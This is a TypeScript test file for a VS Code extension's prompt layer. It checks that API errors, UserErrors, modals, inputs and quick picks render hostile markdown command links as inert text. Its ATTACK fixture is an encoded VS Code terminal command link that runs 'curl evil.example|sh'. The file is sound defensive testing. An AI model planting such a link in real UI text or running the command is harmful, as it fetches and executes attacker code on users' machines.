// Issue 10, point 3, through the prompt layer: an API error, a UserError quoting a file's key, a modal listing
// dependents and a quick pick of connection names all reach whatever shows the prompt (here a recorder, in the editor
// VS Code's notifications) without a link VS Code would render, because PromptHolder makes the text inert whoever
// replaced the prompts. The pattern is VS Code's own (src/vs/base/common/linkedText.ts).
import './support/vscodeStub';
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { PolytomicApiError } from '../../core/src/api/errors';
import { ErrorReporter } from '../../client/src/errors';
import { PolytomicOutput } from '../../client/src/output';
import { PromptHolder, type Prompts } from '../../client/src/ui';
import { UserError } from '../../client/src/userError';

const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const ATTACK = '[Show details](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D)';

function recorder(): { prompts: PromptHolder; shown: string[] } {
  const shown: string[] = [];
  const prompts = new PromptHolder();
  const recording: Prompts = {
    confirm: async (message, detail) => (shown.push(message, detail), true),
    chooseModal: async (message, detail, actions) => (shown.push(message, detail), actions[0]),
    typeToConfirm: async (prompt, expected) => (shown.push(prompt), expected === ATTACK),
    input: async (options) => (shown.push(options.prompt ?? '', options.title ?? ''), 'typed'),
    pick: async (items, options) => (shown.push(options.placeHolder ?? '', ...items.map((i) => `${i.label} ${i.description ?? ''}`)), items[1]),
    pickMany: async (items, options) => (shown.push(options.placeHolder ?? '', ...items.map((i) => `${i.label} ${i.description ?? ''} ${i.detail ?? ''}`)), items.slice(1)),
    saveLocation: async (_uri, title) => (shown.push(title), undefined),
    chooseFolder: async (_uri, title) => (shown.push(title), undefined),
    notify: async (_kind, message) => (shown.push(message), undefined),
  };
  prompts.current = recording;
  return { prompts, shown };
}

function assertInert(shown: string[]): void {
  assert.ok(shown.length > 0);
  for (const text of shown) assert.deepEqual([...text.matchAll(VSCODE_LINK)].map((m) => m[0]), [], text);
}

test('an API error message with a command link is notified inert', async () => {
  const { prompts, shown } = recorder();
  const reporter = new ErrorReporter(new PolytomicOutput(), prompts);
  for (const kind of ['server', 'unauthorized', 'bad_response'] as const) {
    const error = new PolytomicApiError({ kind, message: `Polytomic says: ${ATTACK}\nand more`, method: 'GET', path: '/api/connections', status: 500 });
    await reporter.report(error, { action: 'Refresh connections' });
  }
  // A redirect's Location header is quoted in the error the client builds.
  const redirect = new PolytomicApiError({ kind: 'bad_response', message: `Polytomic was redirected (307) to ${ATTACK}. Set the base URL`, method: 'GET', path: '/api/connections' });
  await reporter.report(redirect, { action: 'Refresh connections' });
  assert.equal(shown.length, 4);
  assertInert(shown);
  assert.match(shown[0], /^Refresh connections failed: Polytomic says: \[Show details\] \(command:workbench/);
  assert.ok(!shown[0].includes('\n'));
});

test('a UserError quoting a key from a file is notified inert', async () => {
  const { prompts, shown } = recorder();
  await new ErrorReporter(new PolytomicOutput(), prompts).report(new UserError(`Unknown field "${ATTACK}" in configuration.`), { action: 'Create connection' });
  assertInert(shown);
});

test('modals, typed confirmations, inputs and quick picks get inert text; the caller gets its own item back', async () => {
  const { prompts, shown } = recorder();
  const ui = prompts.current;
  assert.equal(await ui.confirm(`Delete "${ATTACK}"?`, `Used by:\n  sync ${ATTACK}`, 'Delete'), true);
  assert.equal(await ui.chooseModal(`"${ATTACK}" is in use.`, `model ${ATTACK}`, ['Force Delete...']), 'Force Delete...');
  assert.equal(await ui.typeToConfirm(`Force delete "${ATTACK}". Type its name.`, ATTACK), true, 'the name to type is unchanged');
  await ui.input({ prompt: ATTACK, title: ATTACK });
  const items = [
    { label: 'Warehouse', value: 1 },
    { label: ATTACK, description: ATTACK, value: 2 },
  ];
  const picked = await ui.pick(items, { placeHolder: ATTACK });
  assert.equal(picked, items[1], 'the original item, not the inert copy');
  const many = await ui.pickMany([...items, { label: 'Orders', detail: ATTACK, value: 3 }], { placeHolder: ATTACK });
  assert.deepEqual(many, [items[1], { label: 'Orders', detail: ATTACK, value: 3 }], 'the original items, not the inert copies');
  await ui.saveLocation(undefined, ATTACK);
  await ui.chooseFolder(undefined, `Import into ${ATTACK}`, 'Import Here');
  await ui.notify('info', `Deleted connection "${ATTACK}".`);
  assertInert(shown);
  assert.ok(shown.some((text) => text.includes('\n  sync [Show details] (command:')), 'a detail keeps its lines');
});
